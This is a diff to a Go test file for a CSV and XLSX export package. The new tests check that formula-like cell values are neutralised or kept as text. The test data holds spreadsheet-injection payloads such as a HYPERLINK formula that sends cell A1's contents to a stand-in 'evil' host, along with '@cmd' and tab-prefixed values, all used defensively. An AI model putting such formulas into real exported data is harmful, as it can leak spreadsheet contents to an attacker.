@@ -9,8 +9,12 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/apache/arrow-go/v18/arrow"
+	"github.com/apache/arrow-go/v18/arrow/array"
 	"github.com/apache/arrow-go/v18/arrow/decimal128"
 	"github.com/apache/arrow-go/v18/arrow/decimal256"
+	"github.com/apache/arrow-go/v18/arrow/memory"
+	"github.com/xuri/excelize/v2"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files under testdata")
@@ -99,7 +103,7 @@ func TestAppendCSVField(t *testing.T) {
 		{"two\nlines", "\"two\nlines\""},
 		{"cr\r", "\"cr\r\""},
 		{" padded ", " padded "},
-		{"=SUM(A1)", "=SUM(A1)"}, // kept as data; see the package README on CSV injection
+		{"=SUM(A1)", "=SUM(A1)"}, // quoting is not neutralising: see TestWriteCSVNeutralisesFormulas
 	}
 	for _, tc := range tests {
 		t.Run(tc.in, func(t *testing.T) {
@@ -179,5 +183,128 @@ func TestDates(t *testing.T) {
 	}
 	if d, ok := parseISODate("2025-06"); !ok || d != 20240 {
 		t.Errorf("parse month = %d %v", d, ok)
+	}
+}
+
+func TestNeutralise(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
+		{"+1+1", "'+1+1"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tcmd", "'\tcmd"},
+		{"\rcmd", "'\rcmd"},
+		{"plain", "plain"},
+		{"a=b", "a=b"}, // only the first character counts
+		{"'quoted", "'quoted"},
+		{"", ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.in, func(t *testing.T) {
+			if got := string(neutralise([]byte(tc.in))); got != tc.want {
+				t.Errorf("got %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+// formulaTable has a text column of formula-like values next to a
+// negative BIGINT and a negative DECIMAL, which must stay numbers.
+func formulaTable(t *testing.T, mem memory.Allocator) Table {
+	t.Helper()
+	schema := arrow.NewSchema([]arrow.Field{
+		{Name: "name", Type: arrow.BinaryTypes.String, Nullable: true},
+		{Name: "n", Type: arrow.PrimitiveTypes.Int64},
+		{Name: "amount", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
+	}, nil)
+	b := array.NewRecordBuilder(mem, schema)
+	defer b.Release()
+	for i, s := range []string{"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+SUM(1,2)", "-1", "@cmd", "\tTab", "\rCR", "Contoso"} {
+		b.Field(0).(*array.StringBuilder).Append(s)
+		b.Field(1).(*array.Int64Builder).Append(int64(-i))
+		b.Field(2).(*array.Decimal128Builder).Append(dec(t, "-1234.5", 18, 2))
+	}
+	rec := b.NewRecordBatch()
+	release(t, rec)
+	return Table{Name: "Customers", Records: []arrow.RecordBatch{rec}, Columns: []Column{
+		{Name: "name", Header: "=Name"}, {Name: "n", Format: Integer}, {Name: "amount", Format: Money},
+	}}
+}
+
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	mem := newAlloc(t)
+	var buf bytes.Buffer
+	if _, err := WriteCSV(&buf, formulaTable(t, mem)); err != nil {
+		t.Fatal(err)
+	}
+	want := "=Name,n,amount\r\n" + // headers are ours, not data
+		"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",0,-1234.50\r\n" +
+		"\"'+SUM(1,2)\",-1,-1234.50\r\n" +
+		"'-1,-2,-1234.50\r\n" +
+		"'@cmd,-3,-1234.50\r\n" +
+		"'\tTab,-4,-1234.50\r\n" +
+		"\"'\rCR\",-5,-1234.50\r\n" +
+		"Contoso,-6,-1234.50\r\n"
+	if got := buf.String(); got != want {
+		t.Errorf("got\n%q\nwant\n%q", got, want)
+	}
+}
+
+func TestXLSXKeepsFormulaTextAsText(t *testing.T) {
+	mem := newAlloc(t)
+	var buf bytes.Buffer
+	if _, err := WriteXLSX(&buf, Workbook{Sheets: []Table{formulaTable(t, mem)}}, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for cell, want := range map[string]string{"A2": "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "A5": "@cmd", "B3": "-1"} {
+		if formula, _ := f.GetCellFormula("Customers", cell); formula != "" {
+			t.Errorf("%s has formula %q", cell, formula)
+		}
+		if got, _ := f.GetCellValue("Customers", cell); got != want {
+			t.Errorf("%s = %q, want %q", cell, got, want)
+		}
+	}
+	if typ, _ := f.GetCellType("Customers", "B3"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
+		t.Errorf("B3 (a negative count) is stored as text")
+	}
+}
+
+func TestWriteCSVRowFormats(t *testing.T) {
+	mem := newAlloc(t)
+	schema := arrow.NewSchema([]arrow.Field{
+		{Name: "unit", Type: arrow.BinaryTypes.String, Nullable: true},
+		{Name: "v", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
+	}, nil)
+	b := array.NewRecordBuilder(mem, schema)
+	defer b.Release()
+	for _, r := range []struct{ unit, v string }{{"count", "12.00"}, {"count", "-3.00"}, {"count", "0.00"}, {"USD", "12.00"}, {"count", "2.50"}} {
+		b.Field(0).(*array.StringBuilder).Append(r.unit)
+		b.Field(1).(*array.Decimal128Builder).Append(dec(t, r.v, 18, 2))
+	}
+	b.Field(0).AppendNull()
+	b.Field(1).(*array.Decimal128Builder).Append(dec(t, "7.00", 18, 2))
+	rec := b.NewRecordBatch()
+	release(t, rec)
+	tb := Table{Name: "Summary", Records: []arrow.RecordBatch{rec}, Columns: []Column{
+		{Name: "unit"},
+		{Name: "v", Format: Decimal, FormatBy: "unit", RowFormats: map[string]Format{"count": Integer, "USD": Money}},
+	}}
+	var buf bytes.Buffer
+	if _, err := WriteCSV(&buf, tb); err != nil {
+		t.Fatal(err)
+	}
+	// A count with a fraction (which a count never has) keeps its exact digits.
+	want := "unit,v\r\ncount,12\r\ncount,-3\r\ncount,0\r\nUSD,12.00\r\ncount,2.50\r\n,7.00\r\n"
+	if got := buf.String(); got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	tb.Columns[1].FormatBy = "nope"
+	if _, err := WriteCSV(&bytes.Buffer{}, tb); err == nil {
+		t.Error("a FormatBy naming no column was accepted")
 	}
 }
